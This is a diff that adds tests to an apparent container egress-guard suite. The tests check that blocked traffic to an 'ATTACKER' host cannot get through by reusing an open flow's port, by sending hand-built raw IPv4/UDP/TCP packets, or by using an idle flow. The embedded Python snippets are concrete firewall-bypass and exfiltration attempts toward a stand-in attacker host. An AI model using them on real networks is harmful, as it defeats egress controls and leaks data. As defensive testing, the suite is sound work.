@@ -114,6 +114,56 @@ describe('cases 47 and 48 (U)', () => {
   });
 });
 
+/** A socket of the job's on a port of its own, and what makes the same flow again. */
+const FLOW = `f = datagram(); f.setsockopt(1, 15, 1); f.bind(('192.0.2.2', 7999)); f.connect((TO, 9))`;
+const AGAIN = FLOW.replaceAll('f.', 'g.').replace('f =', 'g =');
+
+/** Takes what is sent to the attacker, so that nothing says it is not wanted. */
+const SINK = `
+import socket
+s = socket.socket(2, 2); s.bind(('${ATTACKER}', 9)); print('ready', flush=True)
+while True: s.recv(999)`;
+
+describe('case 48 (U), a socket made after takes the place of a flow open before', () => {
+  test.each([
+    ['beside its socket', 'pass', `${AGAIN}; g.send(b'%')`],
+    ['behind its socket', 'f.close()', `${AGAIN}; g.send(b'%')`],
+    [
+      'with headers of its own (N)',
+      'f.close()',
+      `SPORT = 7999; g = socket.socket(2, 3, 255); g.sendto(ipv4(17, udp(b'%')), (TO, 0))`,
+    ],
+  ])('a datagram flow, %s', async (what, end, again) => {
+    await arena.guarded.lab.serve(SINK);
+    expect(await does(`${FLOW}; f.send(b'mark-open!')`)).toBe('done');
+    expect(await arena.hasArrived('mark-open!', true)).toBe(true);
+    await arena.guard();
+    const own = arena.marker();
+    expect(await does(`f.send(b'${own}')`)).toBe('done');
+    expect(await arena.hasArrived(own, true)).toBe(true);
+    const marker = arena.marker();
+    expect(await does(end)).toBe('done');
+    expect(await does(again.replace('%', marker))).toBe('PermissionError');
+    expect(await arena.hasArrived(marker, false)).toBe(false);
+    expect(await arena.blocksOf(ATTACKER)).toHaveLength(1);
+    told.closed(48, `a socket made after, ${what}`);
+  });
+
+  test('a stream, with headers of its own (N)', async () => {
+    const open = `f = socket.socket(); f.bind(('192.0.2.2', 7998)); f.settimeout(2); f.connect((TO, 443))`;
+    expect(await does(open)).toBe('done');
+    await arena.guard();
+    const marker = arena.marker();
+    const raw = `SPORT = 7998; socket.socket(2, 3, 255).sendto(ipv4(6, tcp(b'${marker}', flags=16)), (TO, 0))`;
+    expect(await does(raw)).toBe('PermissionError');
+    expect(await arena.hasArrived(marker, false)).toBe(false);
+    const own = arena.marker();
+    expect(await does(`f.sendall(b'${own}')`)).toBe('done');
+    expect(await arena.hasArrived(own, true)).toBe(true);
+    told.closed(48, 'a stream of headers made by hand beside one open before');
+  });
+});
+
 test('case 48 (U), who asks the machine for an echo during the start opens nothing', async () => {
   const asker = await arena.guarded.lab.serve(`
 import socket, time
@@ -146,6 +196,21 @@ test('case 37 (U), a container that is older than the wall', async () => {
   expect(await does(`u.sendto(b'${next}', (TO, 9))`)).toBe('PermissionError');
   expect(await arena.hasArrived(next, false)).toBe(false);
   told.closed(37, 'a container that is older than the wall');
+});
+
+test('case 37 (D), a datagram flow of a container that was idle has ended', async () => {
+  await arena.guarded.lab.serve(SINK);
+  await startJob(['nsenter', `--net=/run/cw-netns/${arena.guarded.lab.box}`]);
+  expect(await does(`f = datagram(); f.connect((TO, 9)); f.send(b'mark-open!')`)).toBe('done');
+  await arena.guard({ ...POLICY, times: { flowIdleMs: 5000 } });
+  const own = arena.marker();
+  expect(await does(`f.send(b'${own}')`)).toBe('done');
+  expect(await arena.hasArrived(own, true)).toBe(true);
+  const marker = arena.marker();
+  expect(await does(`time.sleep(5.1); f.send(b'${marker}')`)).toBe('done'); // its idle time
+  expect(await arena.blocksOf(ATTACKER)).toMatchObject([{ layer: 'tc', protocol: 'UDP' }]);
+  expect(await arena.hasArrived(marker, false)).toBe(false);
+  told.closed(37, 'a datagram flow of a container that was idle');
 });
 
 /** A question for a name, as bytes of Python. */
